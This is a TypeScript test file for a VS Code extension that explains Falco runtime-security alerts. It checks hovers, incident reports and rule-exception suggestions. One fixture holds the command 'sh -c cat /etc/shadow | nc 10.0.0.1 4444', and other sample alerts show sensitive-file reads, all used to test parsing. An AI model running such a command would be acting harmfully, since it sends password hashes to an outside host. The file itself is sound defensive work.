// Audit of what Falco Lens tells a user about alerts (session 6): each test pins a statement or a snippet that was
// false or unsafe, checked against Falco 0.44.0 / libs 0.25.2 sources named in the tests.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { CodeAction, Hover } from 'vscode-languageserver-types';
import { createAlertsService } from '../../server/src/service/alerts';
import { isSafeExceptionValue, planDisable } from '../../server/src/service/alerts/tuning';
import { parseDocument } from 'yaml';
import { TestHost, alertDoc, fakeRules } from '../fixtures/alerts/helpers';
import { allPlaybooks, lookupField, valueMeanings } from '../../server/src/knowledge';

const md = (h: Hover | null | undefined) => (h ? (h.contents as { value: string }).value : '');

function hoverAt(s: ReturnType<typeof createAlertsService>, text: string, line: number, needle: string, shift = 0, name = 'a.json'): string {
  const col = text.split('\n')[line].indexOf(needle);
  assert.ok(col >= 0, needle);
  return md(s.hover!(alertDoc(name, text), { line, character: col + shift }));
}

function actionsFor(s: ReturnType<typeof createAlertsService>, text: string, name: string): CodeAction[] {
  return s.codeActions!(alertDoc(name, text), { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, { diagnostics: [] });
}

// The parent is a program of its own: under sudo or a shell no process + parent is offered (alerts-leftovers-s8).
const READ_SENSITIVE = (file: string) => JSON.stringify({
  hostname: 'x86', output: `14:50:34.502309868: Warning Sensitive file opened for reading by non-trusted program (file=${file} process=cat parent=backup-agent)`,
  output_fields: { 'container.id': 'host', 'evt.time': 1746622234502309868, 'fd.name': file, 'proc.exepath': '/usr/bin/cat', 'proc.name': 'cat', 'proc.pname': 'backup-agent' },
  priority: 'Warning', rule: 'Read sensitive file untrusted', source: 'syscall', tags: ['T1555'], time: '2025-05-07T12:50:34.502309868Z',
});

test('an exception value with "=" and no space is written in the condition\'s quotes: libsinsp reads a bare string only up to "="', () => {
  assert.equal(isSafeExceptionValue('/tmp/a=b'), false);
  assert.equal(isSafeExceptionValue('--opt=1'), false);
  // With a space Falco's quote_item wraps the value in double quotes, where '=' is text.
  assert.equal(isSafeExceptionValue('a b=c'), true);
  // Session 6 refused such a value; since session 19 it is written quoted (tuning.ts exceptionValueText), which
  // quote_item leaves alone: the condition reads `fd.name = "/etc/app/key=prod"`, never the bare `/etc/app/key`.
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const actions = actionsFor(s, READ_SENSITIVE('/etc/app/key=prod'), 'a.json');
  const file = actions.find((a) => a.title.includes('file + executable path'));
  assert.ok(file?.edit, actions.map((a) => a.title).join('\n'));
  const inserted = (file.edit!.documentChanges!.find((c) => 'edits' in c) as { edits: { newText: string }[] }).edits.map((e) => e.newText).join('');
  const ex = parseDocument(inserted).toJSON()[0].exceptions[0];
  assert.equal(ex.values[0][ex.fields.indexOf('fd.name')], '"/etc/app/key=prod"', inserted);
  const report = s.report(READ_SENSITIVE('/etc/app/key=prod'), 'file:///logs/a.json');
  assert.doesNotMatch(report, /No exception is proposed/);
  assert.match(report, /is written in double quotes, as Falco's condition reads a string/);
});

const DROP = JSON.stringify({
  hostname: 'node-1', output: '07:48:43.317268814: Debug Falco internal: syscall event drop. 3147 system calls dropped in last second.',
  output_fields: { n_drops: 3147, n_drops_buffer_total: 3147, n_drops_bug: 0, n_drops_pf: 0, n_evts: 76228971 },
  priority: 'Debug', rule: 'Falco internal: syscall event drop', source: 'internal', time: '2025-06-02T07:48:43.317268814Z',
});
const DROP_TEXT = '10:06:32.026311720: Debug Falco internal: syscall event drop. 4551 system calls dropped in last second.';

test('Falco internal events are not rules: no "Disable rule" override, no exception, and the hovers and report say so', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const titles = actionsFor(s, DROP, 'a.json').map((a) => a.title);
  assert.deepEqual(titles, ['Generate incident report for this alert']);
  assert.deepEqual(planDisable('', 'Falco internal: syscall event drop'), { kind: 'not-a-rule' });
  assert.equal(planDisable('', 'Terminal shell in container').kind, 'insert');
  const rule = hoverAt(s, DROP, 0, '"rule"', 1);
  assert.match(rule, /^\*\*Falco internal event\*\* `Falco internal: syscall event drop`\n\nEmitted by Falco itself/);
  assert.match(rule, /`syscall_event_drops` \(dropped system calls\)/);
  assert.doesNotMatch(rule, /not in the loaded rules/);
  const counter = hoverAt(s, DROP, 0, '"n_drops"', 1);
  assert.match(counter, /A value Falco reports with its internal event \(a counter or a metric\), not a field of the rule language\./);
  assert.doesNotMatch(counter, /plugin field/);
  const text = md(s.hover!(alertDoc('a.log', DROP_TEXT), { line: 0, character: 30 }));
  assert.match(text, /^\*\*Falco internal event\*\* `Falco internal: syscall event drop`\n\nEmitted by Falco itself/);
  const report = s.report(DROP, 'file:///logs/a.json');
  assert.match(report, /### Investigation\n\nFalco's own event, not a detection: the values above are Falco's own\. Dropped system calls mean that Falco may have missed activity/);
  assert.match(report, /### Tuning\n\nEmitted by Falco itself/);
  assert.match(report, /### MITRE ATT&CK\n\nNone: this is not a rule's detection\.\n\n### Investigation/);
  assert.match(report, /### Mitigations\n\nNone: this is not a rule's detection \(see Tuning\)\./);
  assert.doesNotMatch(report, /No exception is proposed|override:/);
});

test('the time hover and the report show the alert\'s own time when output_fields evt.time names another instant', () => {
  // falcosidekick's README payload: time 2019-05-17, evt.time 1507591916746609046 (2017-10-09).
  const payload = '{"output":"16:31:56.746609046: Error File below a known binary directory opened for writing (user=root command=touch /bin/hack file=/bin/hack)","hostname": "localhost", "priority":"Error","rule":"Write below binary dir","time":"2019-05-17T15:31:56.746609046Z", "output_fields": {"evt.time":1507591916746609046,"fd.name":"/bin/hack","proc.cmdline":"touch /bin/hack","user.name":"root"}}';
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const h = hoverAt(s, payload, 0, '"time"', 1);
  assert.match(h, /^\*\*Time\*\* `2019-05-17 15:31:56\.746609046 UTC`/);
  assert.match(h, /evt\.time `1507591916746609046` in output_fields is another instant, `2017-10-09 23:31:56\.746609046 UTC`/);
  const report = s.report(payload, 'file:///logs/a.json');
  assert.match(report, /\| 1 \| 1 \| `2019-05-17 15:31:56\.746609046 UTC` \|/);
  // Agreeing times keep evt.time's exact digits (a time written to the millisecond by another tool).
  const agreeing = payload.replace('2019-05-17T15:31:56.746609046Z', '2017-10-09T23:31:56.746Z');
  const a = hoverAt(s, agreeing, 0, '"time"', 1, 'b.json');
  assert.match(a, /^\*\*Time\*\* `2017-10-09 23:31:56\.746609046 UTC`/);
  assert.match(a, /evt\.time `1507591916746609046` ns since the epoch \(exact digits\)\./);
});

test('user.loginuid -1 is not said to come from cron: cron sets the crontab owner\'s login uid through pam_loginuid', () => {
  // Debian's cron package (3.0pl1-162) /etc/pam.d/cron: "session required pam_loginuid.so".
  const meaning = valueMeanings('user.loginuid', '-1').map((m) => m.meaning).join(' ');
  assert.equal(meaning, 'No login session: the process descends from a daemon (a service) or the container runtime, not from an interactive login (ssh, console). '
    + 'Cron jobs usually carry the crontab owner\'s uid instead: cron sets it through pam_loginuid (Debian\'s /etc/pam.d/cron).');
  const texts = [
    ...allPlaybooks().flatMap((p) => p.keyFields.filter((k) => k.field === 'user.loginuid').map((k) => k.meaning)),
    lookupField('user.loginuid')!.field.values ?? '',
  ];
  for (const t of texts) assert.doesNotMatch(t, /-1[^.;]*\bcron\b(?! job ran)/, t);
  assert.ok(texts.length > 5);
});

test('an unidentified rule: the report does not say the knowledge base lacks a playbook, or that the alert lacks exception values', () => {
  // plugins/k8saudit/README.md's console sample (Falco printed no rule name and no loaded template matches it).
  const line = '14:09:12.581541000: Warning Pod started with privileged container (user=system:serviceaccount:kube-system:replicaset-controller pod=nginx-deployment-5cdcc99dbf-rgw6z ns=default image=nginx)';
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const report = s.report(line, 'file:///logs/k8s.log');
  assert.match(report, /### MITRE ATT&CK\n\nThe rule is unidentified, so its tags are unknown\./);
  assert.match(report, /### Investigation\n\nThe rule is unidentified, so no playbook can be looked up: start from the fields above \(the user, verb, resource and namespace\)\./);
  assert.match(report, /### Mitigations\n\nThe rule is unidentified, so no mitigation can be looked up\./);
  assert.match(report, /### Tuning\n\nNo exception is proposed: an exception belongs to a named rule, and this alert's rule is unidentified/);
  assert.doesNotMatch(report, /has no playbook for this rule|does not have both values|No mitigation is recorded/);
  // An output with no text before its fields is labelled plainly (okta README sample).
  const okta = s.report('19:12:25.439350000: Debug evt=user.authentication.sso user=User1 ip=x.x.x.x app=google', 'file:///logs/okta.log');
  assert.match(okta, /\| 1 \| 1 \| `19:12:25\.439350000` \| Debug \| unidentified \| — \| — \|/);
  assert.match(okta, /## 1\. unidentified\n/);
  const time = md(s.hover!(alertDoc('k8s.log', line), { line: 0, character: 3 }));
  assert.match(time, /First alert with this message in the file\./);
});

test('proc.tty 0 is not said to mean a service, a job or a pipeline: reverse shells and web shells have no terminal either', () => {
  const [zero] = valueMeanings('proc.tty', 0).map((m) => m.meaning);
  assert.equal(zero, 'No terminal is attached. Services, scheduled jobs, scripts and `kubectl exec` without -t run this way, and so do web shells and reverse shells: it does not make the process benign.');
  const [tty] = valueMeanings('proc.tty', 34816).map((m) => m.meaning);
  assert.doesNotMatch(tty, /someone typed this/);
});

test('container plugin fields as container 0.7.1 (bundled with Falco 0.44.0, CMakeLists.txt CONTAINER_VERSION) extracts them', () => {
  // extract.cpp TYPE_CONTAINER_MOUNTS joins the mounts with ","; the probe fields extract nothing since 0.7.0.
  assert.equal(lookupField('container.mounts')!.field.desc, 'All mounts of the container, comma-separated.');
  for (const name of ['container.healthcheck', 'container.liveness_probe', 'proc.is_container_readiness_probe']) {
    assert.equal(lookupField(name)!.field.values, 'The container plugin deprecated it in 0.7.0 and no longer fills it (Falco 0.44 bundles container 0.7.1).');
  }
});

test('a container runtime log prefix is called UTC only when its time ends in Z', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const line = (t: string) => `${t} stdout F 14:47:07.118224033: Warning Symlinks created over sensitive files | target=/etc linkpath=/tmp/x`;
  const utc = md(s.hover!(alertDoc('cri1.log', line('2024-06-10T14:47:07.119004113Z')), { line: 0, character: 2 }));
  assert.match(utc, /Time `2024-06-10T14:47:07\.119004113Z` \(UTC\)/);
  const local = md(s.hover!(alertDoc('cri2.log', line('2024-06-10T16:47:07.119004113+02:00')), { line: 0, character: 2 }));
  assert.match(local, /Time `2024-06-10T16:47:07\.119004113\+02:00` \(with its UTC offset\)/);
});

test('the report warns that an override of a rule Falco Lens has not loaded cannot be checked (Falco rejects an override of an undefined rule)', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const report = s.report(READ_SENSITIVE('/etc/shadow'), 'file:///logs/a.json');
  assert.match(report, /\*\*Check before use:\*\* `Read sensitive file untrusted` is not in the loaded rules \(workspace and `falcoLens\.rules\.files`\), so Falco Lens cannot check these overrides\. Falco \(0\.37 to 0\.44\) takes an override only of a rule that a rules file loaded before it defines; otherwise the item is an error, `Rule uses 'append' or 'override\.<key>: append' but no rule by that name already exists` \(an exception\) or `An 'override\.<key>: replace' to a rule was requested but no rule by that name already exists` \(a disable\), Falco reads no further in that file and does not start; a hot reload \(`watch_config_files`, SIGHUP\) keeps the rules it runs and sends the alert `Falco internal: hot restart failure`\./);
  const loaded = createAlertsService(new TestHost(), fakeRules([{ name: 'Read sensitive file untrusted', source: 'syscall', tags: [], enabled: true }]));
  assert.doesNotMatch(loaded.report(READ_SENSITIVE('/etc/shadow'), 'file:///logs/a.json'), /cannot check these overrides/);
});

test('proc.vpid 1 is also the host\'s init, not only a container\'s main process', () => {
  assert.equal(valueMeanings('proc.vpid', 1)[0].meaning, 'The process is PID 1 of its PID namespace: the main process of its container (on the host, init itself).');
});

test('a plain tag\'s hover names what falco.yaml does with tags, not a falcosidekick routing it does not document', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const h = hoverAt(s, READ_SENSITIVE('/etc/shadow').replace('"tags":["T1555"]', '"tags":["T1555","filesystem"]'), 0, '"filesystem"', 1, 'tag.json');
  assert.equal(h, '**Tag** `filesystem`: a label from the rule\'s `tags`; falco.yaml can enable or disable rules by tag (`rules`) and add output to them (`append_output`).');
});

test('mitigation commands that change the system are marked as such in the playbook and the report', () => {
  const playbook = allPlaybooks().find((p) => p.rule === 'Execution from /dev/shm')!;
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const line = JSON.stringify({ hostname: 'h', output: '07:30:00.000000000: Warning x', output_fields: { 'proc.name': 'x' }, priority: 'Warning', rule: playbook.rule, source: 'syscall', tags: [], time: '2025-06-02T07:30:00.000000000Z' });
  const report = s.report(line, 'file:///logs/shm.json');
  assert.match(report, /\*\*Changes the system:\*\* Applies the options now\\\.\n\n {2}```sh\n {2}mount -o remount,noexec,nosuid,nodev \/dev\/shm\n/);
  // A read-only check in the same mitigation is not marked.
  assert.match(report, /\n {2}Checks that noexec, nosuid and nodev are listed\\\./);
});

test('no "process + parent" exception when the parent is the container runtime: it would cover every container of the node', () => {
  const shell = (pname: string) => JSON.stringify({
    hostname: 'node-1', output: '07:30:00.000000000: Notice A shell was spawned in a container with an attached terminal | process=bash',
    output_fields: { 'container.id': '7bebb1d63ff1', 'container.image.repository': 'docker.io/library/nginx', 'proc.exepath': '/usr/bin/bash', 'proc.name': 'bash', 'proc.pname': pname, 'proc.tty': 34816 },
    priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall', tags: [], time: '2025-06-02T07:30:00.000000000Z',
  });
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const titles = actionsFor(s, shell('runc'), 'runc.json').map((a) => a.title);
  assert.ok(titles.includes('Add exception for this executable path + process name + container image (/usr/bin/bash, bash, docker.io/library/nginx) to falco_rules.local.yaml (rule not loaded: Falco will not start unless a file it loads earlier defines it, as the official falco_rules.yaml does)'), titles.join('\n'));
  assert.ok(!titles.some((t) => /process( name)? \+ parent|executable path \+ parent/.test(t)), titles.join('\n'));
  // Without an image to pair the process with, nothing is proposed, and the report says why.
  const bare = JSON.stringify({ ...JSON.parse(shell('runc')), output_fields: { 'proc.name': 'bash', 'proc.pname': 'runc' } });
  assert.match(s.report(bare, 'file:///logs/bare.json'), /### Tuning\n\nNo exception is proposed: the parent `runc` is the container runtime, which starts the processes of every container, so an exception on this process and parent would cover all of them\./);
  // A parent that is a program of its own keeps the pair (not sudo, nor a shell: alerts-leftovers-s8), unless the
  // process is a shell: the pair would cover every command the parent runs through a shell (s17, alerts-audit-s17).
  const program = (pname: string) => shell(pname).replace(/"proc\.name":"bash"/, '"proc.name":"python3"');
  const fromAgent = actionsFor(s, program('gitlab-runner'), 'agent.json').map((a) => a.title);
  assert.ok(fromAgent.includes('Add exception for this executable path + process name + parent, any user (/usr/bin/bash, python3, gitlab-runner) to falco_rules.local.yaml (rule not loaded: Falco will not start unless a file it loads earlier defines it, as the official falco_rules.yaml does)'), fromAgent.join('\n'));
  const ofShell = actionsFor(s, shell('gitlab-runner'), 'agent-shell.json').map((a) => a.title);
  assert.ok(!ofShell.some((t) => /process( name)? \+ parent|executable path \+ parent/.test(t)), ofShell.join('\n'));
});

test('the time hover does not call a time earlier than the previous alert\'s a time "since" it', () => {
  const at = (time: string) => JSON.stringify({ hostname: 'h', output: 'x', output_fields: { 'proc.name': 'cat' }, priority: 'Warning', rule: 'Read sensitive file untrusted', source: 'syscall', tags: [], time });
  const log = `${at('2025-06-02T07:35:00.000000000Z')}\n${at('2025-06-02T07:30:00.000000000Z')}\n${at('2025-06-02T07:31:00.000000000Z')}`;
  const s = createAlertsService(new TestHost(), fakeRules([]));
  assert.match(hoverAt(s, log, 1, '"time"', 1, 'order.json'), /\*\*5 min 0 s\*\* before the previous alert of `Read sensitive file untrusted` \(line 1\): the log is not in time order here\./);
  assert.match(hoverAt(s, log, 2, '"time"', 1, 'order.json'), /\*\*1 min 0 s\*\* since the previous alert of `Read sensitive file untrusted` \(line 2\)\./);
});

test('a pipe in a command line is not listed as flags; flag sets still are', () => {
  const alert = (cmdline: string, flags: string) => JSON.stringify({ hostname: 'h', output: 'x', output_fields: { 'evt.arg.flags': flags, 'proc.cmdline': cmdline }, priority: 'Warning', rule: 'R', source: 'syscall', tags: [], time: '2025-06-02T07:30:00.000000000Z' });
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const text = alert('sh -c cat /etc/shadow | nc 10.0.0.1 4444', 'O_RDONLY|O_CLOEXEC|O_DIRECTORY');
  const cmd = hoverAt(s, text, 0, '"sh -c', 2, 'pipe.json');
  assert.match(cmd, /Value: `sh -c cat \/etc\/shadow \| nc 10\.0\.0\.1 4444`/);
  assert.doesNotMatch(cmd, /Flags:/);
  const flags = hoverAt(s, text, 0, '"O_RDONLY', 2, 'pipe.json');
  assert.match(flags, /Flags: `O_CLOEXEC`, `O_DIRECTORY`/);
});

test('falcosidekick\'s Test rule event (source internal) is not called an event Falco emitted', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const test = '{"output":"This is a test from falcosidekick","priority":"Debug","rule":"Test rule","time":"2001-01-01T01:10:00Z","source":"internal","output_fields":{"proc.name":"falcosidekick","environment":"prod"}}';
  assert.doesNotMatch(hoverAt(s, test, 0, '"environment"', 1, 'sk-test.json'), /internal event/);
  const h = hoverAt(s, test, 0, '"rule"', 1, 'sk-test.json');
  assert.equal(h, '**Internal event** `Test rule`\n\nAn event of source `internal`, not a rule of a rules file: exceptions and overrides cannot tune it.');
  const report = s.report(test, 'file:///logs/sk-test.json');
  assert.match(report, /### Investigation\n\nAn internal event, not a detection of activity\./);
  assert.doesNotMatch(report, /Emitted by Falco itself|Falco's own event/);
});
